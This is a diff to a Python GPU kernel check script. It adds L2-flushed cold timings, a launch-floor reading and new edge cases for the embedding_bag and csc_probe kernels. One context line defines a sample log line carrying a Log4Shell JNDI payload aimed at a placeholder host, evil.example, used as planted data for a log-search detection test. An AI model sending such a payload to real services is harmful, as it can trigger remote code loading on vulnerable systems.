@@ -25,7 +25,9 @@ Phases (any failure raises, so the exit code is not 0):
      ``csc_probe`` call and one by one; no false negatives, scan-equal
      matches, one upload; then ``csc_probe`` against its plain version on
      this store's sketch and at the edges (p = 16, p = 40, j = 2, m = 64,
-     anchors that wrap at m), timed at the wave and at one per-query call;
+     anchors that wrap at m, j x k past the seeds the kernel takes by value
+     and past a warp, Q = 1), timed at the wave and at one per-query call,
+     each warm and with the L2 flushed;
   6. the log_search path (``examples/log_search.py``: 20,000 lines, 32
      sources, three planted Log4Shell lines) over every store of
      ``ALL_STORES`` on the GPU, each equal to its CPU run, batch-mode and
@@ -33,11 +35,13 @@ Phases (any failure raises, so the exit code is not 0):
   7. hold the model-serving kernels (``retrieval_score``, ``embedding_bag``,
      ``flash_decode``) against their plain versions on the card, at their
      paths' shapes and at the edges (for ``retrieval_score`` every register
-     step of the query, MAX_D, scalar loads, an unaligned corpus), within
-     the tolerance stated at
+     step of the query, MAX_D, scalar loads, an unaligned corpus; for
+     ``embedding_bag`` BAG 1, 32, 33 and 70 at D 1, 17 and 33, B 1, an
+     unaligned table), within the tolerance stated at
      ``check_model_kernels``, and time each beside one PyTorch library call
      that computes the same function (``flash_decode`` also at the LM
-     path's own call), with each time's share of its bytes bound;
+     path's own call, ``embedding_bag`` also with the L2 flushed), with
+     each time's share of its bytes bound;
   8. the LM serving path: llama3-8b at full width (32 layers, bf16, 8.03B
      parameters from a seeded init), prefill of 8 prompts of 1024 tokens,
      then 31 greedy decode steps through ``flash_decode``; one decode step
@@ -50,7 +54,8 @@ Phases (any failure raises, so the exit code is not 0):
      held to its plain version on the card; xDeepFM's candidate scoring at
      smoke size, held to its CPU run;
  10. print the ``kernels`` JSON line (launch counts of each path, the
-     error against the plain versions, times and bounds), then the result.
+     error against the plain versions, times and bounds, and the launch
+     floor: one empty launch timed as every kernel is), then the result.
 
 Each path's launch counts are set to 0 just before it and read just
 after; the launches that compare a kernel with its plain version fall
@@ -82,6 +87,7 @@ ATTACK = 'GET /api HTTP/1.1 400 payload="${jndi:ldap://evil.example/a}"'
 DEVICE_STORES = ("dynawarp", "csc")  # the stores that take a device
 HBM_BYTES_PER_S = 3.35e12            # H100 SXM device memory rate
 SPIN_CYCLES = 20_000_000             # queued spin that hides launch cost
+L2_FLUSH_BYTES = 100_000_000         # written before a cold run: twice the L2
 REPS = 25
 # the model-serving paths (phases 8 and 9)
 LM_BATCH, LM_PROMPT, LM_DECODE = 8, 1024, 32
@@ -106,6 +112,12 @@ RETRIEVAL_SHAPES = ((1_048_576, 256), (1_000_003, 256), (1, 256), (4097, 30),
 # fields of 1M rows), then D = 8, 64, 128
 EBAG_SHAPES = ((39_000_000, 1, 512, 39, 39), (100_000, 8, 512, 39, 1),
                (100_000, 64, 512, 39, 1), (100_000, 128, 77, 5, 1))
+# the kernel's layouts: BAG 1, 32, 33 and 70 (one lane group's pass and
+# past it) at D 1, 17 and 33 (entry lanes, column lanes, a second column
+# step), then B = 1 (phase 7 adds a table view off 16-byte alignment)
+EBAG_EDGES = tuple((100_000, d, 77, bag, 1) for d in (1, 17, 33)
+                   for bag in (1, 32, 33, 70)) + ((100_000, 1, 1, 39, 1),
+                                                  (100_000, 64, 1, 70, 1))
 # (B, S, Hq, Hkv, D, cache_len, dtype): llama3-8b at 8 of the decode_32k
 # cell's 128 rows, with a full and a partial cache; the LM path's own call
 # (phase 8's last step); a ragged S, cache_len 1, n_rep 1, f32
@@ -117,6 +129,7 @@ DECODE_SHAPES = ((8, 32768, 32, 8, 128, 32768, "bfloat16"),
                  (4, 2048, 8, 8, 128, 2000, "bfloat16"),
                  (4, 4096, 32, 8, 128, 4096, "float32"))
 LM_CALL = 2          # DECODE_SHAPES' LM path call, timed beside the main one
+CSC_WAVE = 1 << 17   # phase 5 edges: past the largest lane-group call
 
 
 def require(cond: bool, what: str) -> None:
@@ -134,10 +147,12 @@ def read(counters) -> dict:
 
 
 # ------------------------------------------------------------------ timing
-def device_ms(torch, fn) -> float:
+def device_ms(torch, fn, flush=None) -> float:
     """Median device time of one ``fn()`` call over REPS runs.  Each run is
     queued behind a GPU spin, so the events bracket only the device work
-    (the host's launch cost of ``fn`` is hidden behind the spin)."""
+    (the host's launch cost of ``fn`` is hidden behind the spin).  A
+    ``flush`` (see ``l2_flush``) runs before each spin, outside the
+    events: the cold reading, where every run finds its inputs out of L2."""
     for _ in range(3):
         fn()
     torch.cuda.synchronize()
@@ -145,6 +160,8 @@ def device_ms(torch, fn) -> float:
     for _ in range(REPS):
         start = torch.cuda.Event(enable_timing=True)
         end = torch.cuda.Event(enable_timing=True)
+        if flush is not None:
+            flush()
         torch.cuda._sleep(SPIN_CYCLES)
         start.record()
         fn()
@@ -152,6 +169,39 @@ def device_ms(torch, fn) -> float:
         end.synchronize()
         times.append(start.elapsed_time(end))
     return statistics.median(times)
+
+
+def host_us(torch, fn, n: int = 100) -> float:
+    """The host's cost of one ``fn()`` launch: median of ``n`` host-clock
+    readings around the call, in microseconds (the device work queues)."""
+    torch.cuda.synchronize()
+    spent = []
+    for _ in range(n):
+        t0 = time.perf_counter()
+        fn()
+        spent.append((time.perf_counter() - t0) * 1e6)
+    torch.cuda.synchronize()
+    return statistics.median(spent)
+
+
+def l2_flush(torch, dev):
+    """A callable that writes L2_FLUSH_BYTES on ``dev``, evicting the 50 MB
+    L2 (``device_ms``'s ``flush``)."""
+    buf = torch.empty(L2_FLUSH_BYTES // 4, dtype=torch.int32, device=dev)
+    return buf.zero_
+
+
+def launch_floor_ms(torch) -> float:
+    """The device time of one empty launch (a one-thread spin of 0
+    cycles), timed as every kernel is: the least any kernel can take."""
+    return device_ms(torch, lambda: torch.cuda._sleep(0))
+
+
+def print_registers(name: str, log: str) -> None:
+    """The compiler's register and spill lines of ``nvcc -Xptxas -v``."""
+    for line in log.splitlines():
+        if "registers" in line or "spill" in line:
+            print(f"ptxas {name}: {line.strip()}", flush=True)
 
 
 def device_busy(torch, fn) -> tuple[float, float | None]:
@@ -223,10 +273,12 @@ def mphf_input(np, build_mphf, seed, n_keys, max_levels, q):
 
 
 # ---------------------------------------------------------------- phase 3
-def hold(torch, name, cases, kernel, plain, bytes_of, main) -> dict:
+def hold(torch, name, cases, kernel, plain, bytes_of, main,
+         flush=None) -> dict:
     """``kernel`` against ``plain`` on every case (a tuple whose last item
     names it), bit for bit; then both timed at ``cases[main]``, with the
-    bytes bound of that case.  Both return a tuple of tensors."""
+    bytes bound of that case, and with a ``flush`` the kernel cold too.
+    Both return a tuple of tensors."""
     err, shapes = 0, []
     for case in cases:
         outs, refs = kernel(*case), plain(*case)
@@ -243,11 +295,15 @@ def hold(torch, name, cases, kernel, plain, bytes_of, main) -> dict:
     ms = device_ms(torch, lambda: kernel(*case))
     plain_ms = device_ms(torch, lambda: plain(*case))
     bound = bytes_of(*case) / HBM_BYTES_PER_S * 1e3
+    out = dict(max_abs_err=err, ms=ms, plain_ms=plain_ms, bound_ms=bound,
+               shape=case[-1])
+    if flush is not None:
+        out["cold_ms"] = device_ms(torch, lambda: kernel(*case), flush)
+    cold = f", cold {out['cold_ms']:.4f} ms" if flush is not None else ""
     print(f"kernel {name}: bit-exact on {len(cases)} cases {shapes}; "
-          f"at {case[-1]}: kernel {ms:.4f} ms, plain {plain_ms:.4f} ms, "
-          f"bound {bound:.6f} ms (bytes)", flush=True)
-    return dict(max_abs_err=err, ms=ms, plain_ms=plain_ms, bound_ms=bound,
-                shape=case[-1])
+          f"at {case[-1]}: kernel {ms:.4f} ms{cold}, plain {plain_ms:.4f} "
+          f"ms, bound {bound:.6f} ms (bytes)", flush=True)
+    return out
 
 
 def token_matrix(np, seed, n, l):
@@ -378,11 +434,12 @@ def hold_token_hash(torch, cases) -> dict:
 
 # ---------------------------------------------------------------- phase 7
 def hold_close(torch, name, cases, kernel, plain, library, bytes_of, tol,
-               main, faults=None, also=()) -> dict:
+               main, faults=None, also=(), flush=None) -> dict:
     """``kernel`` against ``plain`` on every case (a tuple whose last item
     names it) within ``tol(*case, want)`` = (rtol, atol); then kernel, plain
     and ``library`` timed at ``cases[main]``, with the bytes bound of that
-    case, and kernel and ``library`` at each case of ``also``.  Each
+    case (with a ``flush``, kernel and ``library`` cold too), and kernel
+    and ``library`` at each case of ``also``.  Each
     returns one tensor.  The reading of an output is its largest |err| /
     (atol + rtol |want|): at most 1 for the kernel, and above 1 for every
     planted fault that ``faults(*case)`` yields as (label, output) pairs,
@@ -420,6 +477,14 @@ def hold_close(torch, name, cases, kernel, plain, library, bytes_of, tol,
     plain_ms = device_ms(torch, lambda: plain(*case))
     library_ms = device_ms(torch, lambda: library(*case))
     bound = bytes_of(*case) / HBM_BYTES_PER_S * 1e3
+    cold = {}
+    if flush is not None:
+        cold = dict(cold_ms=device_ms(torch, lambda: kernel(*case), flush),
+                    library_cold_ms=device_ms(torch, lambda: library(*case),
+                                              flush))
+        print(f"kernel {name} cold (L2 flushed) at {case[-1]}: kernel "
+              f"{cold['cold_ms']:.4f} ms, library "
+              f"{cold['library_cold_ms']:.4f} ms", flush=True)
     faulted = (f", planted faults read >= {caught:.3g} (by case: "
                f"{'; '.join(readings)})" if caught < float("inf") else "")
     print(f"kernel {name}: within tolerance on {len(cases)} cases {shapes}, "
@@ -438,7 +503,7 @@ def hold_close(torch, name, cases, kernel, plain, library, bytes_of, tol,
               f"{100 * b_ms / k_ms:.1f}% of the bound, library at "
               f"{100 * b_ms / lib_ms:.1f}%", flush=True)
     return dict(max_abs_err=err, ms=ms, plain_ms=plain_ms, bound_ms=bound,
-                library_ms=library_ms, shape=case[-1])
+                library_ms=library_ms, shape=case[-1], **cold)
 
 
 def check_model_kernels(torch, dev) -> dict:
@@ -500,7 +565,13 @@ def check_model_kernels(torch, dev) -> dict:
             ids += torch.arange(bag, device=dev, dtype=torch.int32) * (v // fields)
         return randn(v, d), ids.contiguous(), f"V={v} D={d} B={b} BAG={bag}"
 
-    cases = [bags(*shape) for shape in EBAG_SHAPES]
+    cases = [bags(*shape) for shape in EBAG_SHAPES + EBAG_EDGES]
+    v, d = cases[2][0].shape            # D 64: float4 loads when aligned
+    flat = cases[2][0].view(-1)
+    cases.append((flat[1:1 + (v - 1) * d].view(v - 1, d),
+                  torch.randint(0, v - 1, (512, 39), generator=gen,
+                                device=dev, dtype=torch.int32),
+                  f"V={v - 1} D={d} B=512 BAG=39 unaligned"))
     results["embedding_bag"] = hold_close(
         torch, "embedding_bag", cases,
         lambda t, i, _: embedding_bag_sum(t, i),
@@ -509,7 +580,7 @@ def check_model_kernels(torch, dev) -> dict:
         # the indices, the rows they name, the output
         lambda t, i, _: nbytes(i) + i.numel() * t.shape[1] * 4
         + i.shape[0] * t.shape[1] * 4,
-        lambda t, i, _, want: (2e-5, 2e-5), 0)
+        lambda t, i, _, want: (2e-5, 2e-5), 0, flush=l2_flush(torch, dev))
     del cases
 
     def attn(b, s, hq, hkv, d, clen, dtype):
@@ -1181,16 +1252,21 @@ def check_csc(torch, np, dev, sketch, fps, one_fps) -> dict:
     cases = [(sketch, fps, f"m={sketch.m} k={sketch.k} p={sketch.p} "
               f"j={sketch.j} Q={fps.numel()}")]
     rng = np.random.default_rng(SEED)
+    # the last two: j x k past the 8 seeds the kernel takes by value, and
+    # past a warp's 32 lanes (a lane takes several anchors)
     for m_bits, k, p, j in ((1 << 12, 2, 16, 1), (1 << 16, 4, 64, 2),
                             (64, 3, 64, 2), (1 << 20, 4, 40, 1),
-                            (1 << 14, 2, 256, 1)):
+                            (1 << 14, 2, 256, 1), (1 << 16, 4, 64, 3),
+                            (1 << 20, 40, 16, 1)):
         sk = CSCSketch.build(m_bits=m_bits, k=k, p=p, j=j)
         ins = rng.integers(0, 2**32, 1500, dtype=np.uint64).astype(np.uint32)
         sk.insert_batch(ins, rng.integers(0, 50, 1500))
-        q = np.concatenate([ins[:100], rng.integers(
-            0, 2**32, 1000, dtype=np.uint64).astype(np.uint32)])
-        cases.append((sk, u32_tensor(torch, np, q, dev),
-                      f"m={m_bits} k={k} p={p} j={j} Q={q.size}"))
+        # a small call (lane groups) and a wave (a thread per fingerprint)
+        for n in (1000, CSC_WAVE):
+            q = np.concatenate([ins[:100], rng.integers(
+                0, 2**32, n, dtype=np.uint64).astype(np.uint32)])
+            cases.append((sk, u32_tensor(torch, np, q, dev),
+                          f"m={m_bits} k={k} p={p} j={j} Q={q.size}"))
     # anchors at m - 32: the 64 bits read the last word and wrap to the first
     sk = CSCSketch.build(m_bits=1 << 10, k=1, p=64, j=1)
     sk.bits[0, -1], sk.bits[0, 0] = 0xFFFFFFFF, 0x0000FFFF
@@ -1201,17 +1277,20 @@ def check_csc(torch, np, dev, sketch, fps, one_fps) -> dict:
     require(wrap[:, :48].all() and not wrap[:, 48:].any(),
             "csc_probe does not wrap at m")
     cases.append((sk, u32_tensor(torch, np, q, dev), f"wrap at m Q={q.size}"))
+    cases.append((sketch, fps[:1].clone(), "Q=1"))
 
     def bytes_of(sk, f, _):
         # fingerprints read, the words each anchor needs, the mask written
         words = sk.j * sk.k * ((sk.p + 31) // 32 + 1)
         return f.numel() * (4 + 4 * words + sk.p)
 
+    flush = l2_flush(torch, dev)
+
     def run(cases):
         return hold(torch, "csc_probe", cases,
                     lambda sk, f, _: (csc_partition_mask(sk, f),),
                     lambda sk, f, _: (sk.partition_mask_torch(f),),
-                    bytes_of, 0)
+                    bytes_of, 0, flush)
 
     out = run(cases)
     out["at_launch"] = run([(sketch, one_fps, f"one per-query call, "
@@ -1334,6 +1413,8 @@ def main() -> int:
     build.build()
     print(f"build: {len(build.SOURCES)} kernels in "
           f"{time.perf_counter() - t0:.1f} s", flush=True)
+    floor_ms = launch_floor_ms(torch)
+    print(f"launch floor: {floor_ms:.4f} ms (one empty launch)", flush=True)
 
     kernels = check_kernels(torch, np, dev)
     kernels.update(check_model_kernels(torch, dev))
@@ -1413,7 +1494,8 @@ def main() -> int:
                  plain_ms=k["plain_ms"], bound_ms=k["bound_ms"],
                  bound_by="bytes", library_ms=k.get("library_ms"),
                  shape=k["shape"],
-                 **({"at_launch": k["at_launch"]} if "at_launch" in k else {}))
+                 **{key: k[key] for key in ("cold_ms", "library_cold_ms",
+                                            "at_launch") if key in k})
             for name, k in kernels.items()]
     total_s = time.perf_counter() - t_start
     print(json.dumps(dict(card=card, total_s=total_s,
@@ -1421,7 +1503,7 @@ def main() -> int:
                                          waves=seg_summary["waves"]),
                           csc=csc, log_search=hunt["stores"], lm=lm,
                           recsys=rec)))
-    print(json.dumps({"kernels": rows}))
+    print(json.dumps({"kernels": rows, "launch_floor_ms": floor_ms}))
     print(json.dumps({"ok": True, "device": {
         "platform": "gpu", "kind": torch.cuda.get_device_name(0),
         "count": torch.cuda.device_count()}}))
